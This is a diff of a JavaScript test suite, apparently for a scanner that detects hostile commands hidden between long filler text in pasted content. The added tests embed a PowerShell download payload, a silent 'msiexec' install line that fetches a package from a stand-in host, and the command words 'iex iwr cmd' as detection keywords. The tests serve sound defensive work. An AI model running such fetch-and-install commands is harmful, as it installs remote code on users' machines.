@@ -123,7 +123,7 @@ test('a payload between two blank fillers of 70 K units each reaches the backgro
   const varied = new TextDecoder('utf-16le').decode(units);
   const t0 = performance.now();
   const huge = scanned(varied);
-  assert.ok(huge.length === 2 * 65536 + 1, `${huge.length}`);
+  assert.ok(huge.length <= 2 * 65536 + 1 && huge.length > 2 * 58000, `${huge.length}`);
   assert.ok(performance.now() - t0 < 2000, `${performance.now() - t0} ms`);
   // Blanks of fewer than BLANK_KEEP units stay; a longer run keeps BLANK_KEEP.
   assert.equal(squeeze(`a${' '.repeat(300)}b${'\t'.repeat(20)}c`, 0, 323), `a${' '.repeat(BLANK_KEEP)}b${'\t'.repeat(20)}c`);
@@ -151,4 +151,38 @@ test('a payload between two fillers of one unit or one chunk repeated reaches th
   // The one-unit and the blank cut agree with the background's.
   const hashes = `a${'#'.repeat(300)}b`;
   assert.equal(clipText(squeeze(hashes, 0, hashes.length) + 'x'.repeat(5000)).slice(0, 140), clipText(hashes + 'x'.repeat(5000)).slice(0, 140));
+});
+
+// Review 43 CF43-M1: fillers the squeeze cannot cut (lines that differ by a counter, a chunk
+// longer than PERIOD units): the middle's blocks with the most distinct command words are kept.
+test('a payload between two fillers of numbered or long lines reaches the background (forty-fourth session)', () => {
+  const cmd = `powershell ${PAYLOAD}`;
+  const numbered = (n, f) => Array.from({ length: n }, (_, i) => f(String(i + 1).padStart(6, '0'))).join('\n');
+  const fills = [
+    numbered(7000, (i) => `:: ${i} done`),
+    numbered(6000, (i) => `<# Schritt ${i} geprüft #>`),
+    // a line of 45 units, then the same line again: no chunk of PERIOD units or fewer repeats
+    '\n# - - - integrity of the local cache is fine - - -'.repeat(1700),
+    // decoys: every line names one program; the payload's block names several
+    numbered(6000, (i) => `rem cmd ${i}`),
+  ];
+  for (const fill of fills) {
+    const text = `${fill}\n${cmd}\n${fill}`;
+    assert.ok(text.length > 140_000 && !`${text.slice(0, 65536)}${text.slice(-65536)}`.includes('iwr'), fill.slice(0, 30));
+    const out = scanned(text);
+    assert.ok(out.length <= 2 * 65536 + 1 && out.includes(cmd), `${fill.slice(0, 30)} ${out.length}`);
+    assert.ok(out.startsWith(fill.slice(0, 1000)) && out.endsWith(fill.slice(-1000)));
+    assert.ok(clipText(out).includes(cmd), fill.slice(0, 30));
+  }
+  // After a cut run of a chunk, the line break before the payload stays: it is not joined to
+  // a `#` comment line.
+  const hashed = `# 1\n${'# ##########\n'.repeat(500)}msiexec /q /i https://pad-cdn.example/p.msi\n${'# ##########\n'.repeat(500)}`;
+  assert.match(squeeze(hashed, 0, hashed.length), /#\nmsiexec \/q/);
+  // Bounded: 10 M units dense with command words, and varied text with none.
+  const t0 = performance.now();
+  const dense = scanned('iex iwr cmd '.repeat(900_000));
+  assert.ok(dense.length <= 2 * 65536 + 1, `${dense.length}`);
+  const none = scanned(numbered(60_000, (i) => `ok ${i}`));
+  assert.ok(none.length <= 2 * 65536 + 1 && !none.includes('iwr'));
+  assert.ok(performance.now() - t0 < 2000, `${performance.now() - t0} ms`);
 });
